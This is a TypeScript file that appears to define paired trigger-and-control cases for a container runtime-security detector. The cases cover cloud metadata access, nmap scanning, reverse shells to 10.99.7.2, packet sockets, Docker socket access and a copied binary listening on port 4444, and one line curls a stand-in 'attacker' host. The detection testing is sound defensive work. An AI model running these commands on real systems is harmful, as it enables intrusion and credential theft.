import { type Attack, pair } from "./attack.ts";

const metadata = "http://169.254.169.254/latest/meta-data/";

const metadataService = [
  ...pair(
    "Cloud Metadata Access",
    "curl",
    { page: ["curl", "-s", "-m", "5", metadata] },
    { page: ["curl", "-s", "-m", "5", "http://attacker/"] },
  ),
  // The address stands in a file: only the connection tells.
  ...pair(
    "Cloud Metadata Access",
    "renamed-client",
    { exec: ["/opt/fetch", "-s", "-m", "5", "-K", "/opt/metadata.curl"] },
    { exec: ["/opt/fetch", "-s", "-m", "5", "-K", "/opt/attacker.curl"] },
  ),
];

const scanners = [
  ...pair(
    "Network Scanning Tool",
    "nmap",
    { page: ["nmap", "-n", "-Pn", "--open", "-p", "443", "kubernetes.default"] },
    { page: ["curl", "-sk", "-m", "5", "https://kubernetes.default:443/"] },
  ),
  ...pair(
    "Network Scanning Tool",
    "renamed-scanner",
    { exec: ["/opt/walk", "-n", "-Pn", "--open", "-p", "443", "--unprivileged", "kubernetes.default"] },
    { exec: ["/opt/walk", "--version"] },
  ),
  ...pair(
    "Network Scanning by Many Addresses",
    "renamed-scanner",
    { exec: ["/opt/probe", "/opt/addresses.pl", "20"] },
    { exec: ["/opt/probe", "/opt/addresses.pl", "8"] },
  ),
  ...pair(
    "Network Scanning by Many Ports",
    "renamed-scanner",
    { exec: ["/opt/probe", "/opt/ports.pl", "20"] },
    { exec: ["/opt/probe", "/opt/ports.pl", "8"] },
  ),
];

const stream = (program: string, streams: string, ...argv: string[]) => ({
  exec: [program, "/opt/stream.pl", "10.99.7.2", "80", streams, ...argv],
});

const reverseShells = [
  ...pair(
    "Reverse Shell",
    "shell",
    stream("/opt/probe", "0,1,2", "sh", "-c", "id"),
    stream("/opt/probe", "1", "sh", "-c", "id"),
  ),
  ...pair(
    "Reverse Shell",
    "renamed-shell",
    stream("/opt/probe", "0,1,2", "/opt/report", "-c", "id"),
    stream("/opt/probe", "1,2", "/opt/report", "-c", "id"),
  ),
  // The shell may be given a terminal of its own afterwards: what counts is done before.
  ...pair("Reverse Shell", "interpreter", stream("perl", "0", "/opt/work"), stream("perl", "1", "/opt/work")),
];

const sockets = [
  ...pair(
    "Packet Socket in a Container",
    "packet",
    { exec: ["/opt/probe", "/opt/socket.pl", "17", "3", "768"] },
    { exec: ["/opt/probe", "/opt/socket.pl", "16", "3", "0"] },
  ),
  ...pair(
    "Packet Socket in a Container",
    "own-headers",
    { exec: ["/opt/probe", "/opt/socket.pl", "2", "3", "255"] },
    { exec: ["/opt/probe", "/opt/socket.pl", "2", "3", "1"] },
  ),
  ...pair(
    "Container Runtime Socket Access",
    "docker",
    { exec: ["/opt/probe", "/opt/unix.pl", "/tmp/docker.sock"] },
    { exec: ["/opt/probe", "/opt/unix.pl", "/tmp/doctor.sock"] },
  ),
  ...pair(
    "Drift Binary Listening",
    "copied-program",
    { exec: ["/tmp/probe", "/opt/listen.pl", "4444"], also: ["Drift Binary Executed"] },
    { exec: ["/opt/probe", "/opt/listen.pl", "4444"] },
    { prepare: [["cp", "/opt/probe", "/tmp/probe"]], tidy: [["rm", "/tmp/probe"]] },
  ),
];

export const onTheNetwork: Attack[] = [...metadataService, ...scanners, ...reverseShells, ...sockets];
